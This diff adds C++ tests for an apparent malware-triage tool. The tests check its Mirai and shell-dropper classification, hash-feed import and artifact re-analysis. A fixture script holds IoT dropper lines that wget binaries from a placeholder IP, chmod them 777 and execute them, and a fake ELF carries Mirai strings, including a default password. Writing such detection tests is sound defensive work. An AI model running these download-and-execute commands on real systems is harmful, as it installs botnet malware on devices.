@@ -9,6 +9,9 @@
 #include <sstream>
 #include <thread>
 
+#include "analysis/static/hashes.h"
+#include "artifacts/artifact_store.h"
+#include "testing/sample_fixtures.h"
 #include "testing/subprocess.h"
 #include "testing/temp_dir.h"
 
@@ -149,6 +152,83 @@ TEST_F(CliTest, RunDeliversTheSpoolAndStopsCleanlyOnSigterm) {
   ProcessResult stopped = run.wait();
   EXPECT_EQ(stopped.exit_code, 0) << stopped.err;
   EXPECT_NE(stopped.err.find("stopping"), std::string::npos) << stopped.err;
+}
+
+std::string write_bytes(const std::filesystem::path& path, const std::vector<std::byte>& bytes) {
+  std::ofstream(path, std::ios::binary)
+      .write(reinterpret_cast<const char*>(bytes.data()),
+             static_cast<std::streamsize>(bytes.size()));
+  return path.string();
+}
+
+std::vector<std::byte> mirai_like() {
+  return testing::fake_elf(
+      {},
+      testing::string_table({"/dev/watchdog", "/proc/net/tcp", "/bin/busybox", "xc3511"}, 0x22));
+}
+
+TEST_F(CliTest, AnalyzeTriagesFilesAndDirectories) {
+  std::filesystem::path samples = data_ / "samples";
+  std::filesystem::create_directories(samples);
+  write_bytes(samples / "bot.arm", mirai_like());
+  std::ofstream(samples / "bins.sh")
+      << "#!/bin/sh\ncd /tmp\n"
+         "wget http://192.0.2.7/x.arm; chmod 777 x.arm; ./x.arm\n"
+         "wget http://192.0.2.7/x.mips; chmod 777 x.mips; ./x.mips\n";
+  ProcessResult table = mitsu({"analyze", samples.string(), "/usr/bin/busybox"});
+  ASSERT_EQ(table.exit_code, 0) << table.err;
+  EXPECT_NE(table.out.find("Mirai (80)"), std::string::npos) << table.out;
+  EXPECT_NE(table.out.find("ShellDropper"), std::string::npos) << table.out;
+  EXPECT_NE(table.out.find("unclassified"), std::string::npos) << "busybox is clean";
+  EXPECT_NE(table.err.find("3 files analysed, 0 failed"), std::string::npos) << table.err;
+
+  ProcessResult json = mitsu({"analyze", "--json", samples.string()});
+  ASSERT_EQ(json.exit_code, 0);
+  ASSERT_EQ(count_lines(json.out), 2);
+  EXPECT_NE(json.out.find("\"arch\":\"arm\""), std::string::npos);
+
+  ProcessResult missing = mitsu({"analyze", "/nonexistent/sample"});
+  EXPECT_EQ(missing.exit_code, 1);
+  EXPECT_NE(missing.err.find("no such file"), std::string::npos);
+}
+
+TEST_F(CliTest, ImportedHashesShowAsKnown) {
+  std::string sample = write_bytes(data_ / "bot.arm", mirai_like());
+  ASSERT_EQ(mitsu({"ingest", kExamples}).exit_code, 0);  // creates the store
+  ProcessResult before = mitsu({"analyze", sample});
+  EXPECT_NE(before.out.find("  no  "), std::string::npos) << before.out;
+  std::string md5 = analysis::compute_hashes(mirai_like()).md5;
+  std::ofstream(data_ / "feed.txt") << "# feed\n" << md5 << "\nnot-a-hash\n";
+  ProcessResult imported = mitsu({"known", "import", (data_ / "feed.txt").string()});
+  EXPECT_EQ(imported.exit_code, 3) << "one line was skipped";
+  EXPECT_NE(imported.err.find("hash-list, 1 hashes (1 new), 1 lines skipped"), std::string::npos)
+      << imported.err;
+  ProcessResult after = mitsu({"analyze", sample});
+  EXPECT_NE(after.out.find("  yes  "), std::string::npos) << after.out;
+}
+
+TEST_F(CliTest, CapturedSamplesAreAnalysedByRunAndAgainByReanalyze) {
+  auto bytes = mirai_like();
+  std::string sha256;
+  {
+    auto store = artifacts::ArtifactStore::open({data_ / "artifacts"});
+    ASSERT_TRUE(store.ok());
+    auto put = (*store)->put(bytes, {"", 1, "test"});
+    ASSERT_TRUE(put.ok());
+    sha256 = put->info.sha256;
+  }
+  std::string events = read_text(kExamples);
+  // The examples' download names another hash: point it at the stored sample.
+  std::string example_hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+  events.replace(events.find(example_hash), example_hash.size(), sha256);
+  ASSERT_EQ(mitsu({"ingest", "-"}, events).exit_code, 0);
+  ProcessResult run = mitsu({"run", "--once"});
+  ASSERT_EQ(run.exit_code, 0) << run.err;
+  // Two samples were delivered (download and upload); only one is in the artifact store.
+  EXPECT_NE(run.err.find("1 samples analysed, 1 failed"), std::string::npos) << run.err;
+  ProcessResult again = mitsu({"reanalyze"});
+  EXPECT_EQ(again.exit_code, 0) << again.err;
+  EXPECT_NE(again.err.find("re-analysed 1 samples, 1 failed"), std::string::npos) << again.err;
 }
 
 }  // namespace
